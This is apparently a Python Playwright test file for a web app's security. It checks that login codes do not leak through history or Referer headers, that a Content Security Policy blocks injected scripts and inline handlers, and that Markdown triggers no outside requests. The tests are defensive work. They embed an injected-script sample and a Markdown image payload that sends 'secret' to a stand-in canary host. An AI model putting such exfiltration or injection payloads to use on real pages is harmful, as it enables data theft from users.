"""In a real browser: no trace of the login code, no script that got in runs, nothing of Markdown asks anybody."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.conftest import allowed as allowed
from tests.browser.conftest import chromium as chromium
from tests.browser.conftest import desk as desk
from tests.browser.conftest import desktop as desktop
from tests.browser.conftest import person as person
from tests.browser.conftest import visitor as visitor
from tests.browser.desk import LIGHT, RECORDER, Desk
from tests.browser.panel import message, open_board
from tests.evidence.servers import saying, served
from tests.threats.test_texts import MARKDOWN

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]


def test_the_login_code_is_in_no_history_and_no_referer(
    visitor: Callable[..., BrowserContext], desk: Desk, chromium: object
) -> None:
    page = visitor().new_page()
    link = desk.link
    code = link.partition("code=")[2]
    sent: list[str] = []
    page.on("request", lambda request: sent.append(f"{request.url} {request.headers}"))
    page.goto(link)
    page.get_by_role("button", name="Log in on this browser").click()
    page.wait_for_url(f"{desk.server.origin}/")
    assert code not in page.url
    after = [one for one in sent if one.startswith(f"{desk.server.origin}/ ")]
    assert after and not [one for one in after if code in one]
    assert code not in desk.server.log()


def test_a_page_that_is_linked_to_is_not_told_where_the_link_was(chromium: object, desk: Desk) -> None:
    """From the very page that has the code in its address."""
    context = chromium.new_context()  # type: ignore[attr-defined]
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello"
    try:
        with served(saying(answer)) as (port, heard):
            page = context.new_page()
            link = desk.link
            page.goto(link)
            page.evaluate(
                "(to) => { const a = document.createElement('a'); a.href = to; a.textContent = 'away';"
                " a.id = 'away'; document.body.append(a); }",
                f"http://127.0.0.1:{port}/",
            )
            page.click("#away")
            page.wait_for_url(f"http://127.0.0.1:{port}/")
            assert heard
            code = link.partition("code=")[2].encode()
            assert not [one for one in heard if code in one]
            assert not [one for one in heard if b"login" in one]
    finally:
        context.close()


def test_a_script_that_gets_into_the_page_does_not_run_and_is_reported(
    desktop: Page, desk: Desk, allowed: list[str]
) -> None:
    allowed.append(r"policy violated|Content Security Policy|violates the following")
    with desktop.expect_console_message(lambda said: "policy violated: script-src" in said.text):
        desktop.evaluate(
            "() => { const s = document.createElement('script'); s.textContent = 'window.ran = true';"
            " document.body.append(s); }"
        )
    assert desktop.evaluate("() => window.ran === undefined")
    with desktop.expect_console_message(lambda said: "policy violated: script-src-attr" in said.text):
        desktop.evaluate("() => { document.body.setAttribute('onclick', 'window.ran = true'); document.body.click(); }")
    assert desktop.evaluate("() => window.ran === undefined")


def test_what_looks_like_markdown_asks_nobody_for_anything(desktop: Page, desk: Desk) -> None:
    """The watch on every page of a journey fails for any address that is not ours."""
    board = desk.board("Marked down", RECORDER, LIGHT)
    desk.shell.ok("send", board, desk.human, "first\n" + "\n\n".join(MARKDOWN), "--as", LIGHT)
    open_board(desktop, board)
    card = message(desktop, "first")
    expect(card).to_contain_text("![x](http://canary.invalid/?d=secret)")
    addresses = card.get_by_role("link").evaluate_all("(links) => links.map((link) => link.getAttribute('href'))")
    assert [one for one in addresses if not one.startswith(("/", "#", "?"))] == []
    assert not [one for one in addresses if "canary" in one or one.startswith("//")]
    expect(card.get_by_role("img")).to_have_count(0)
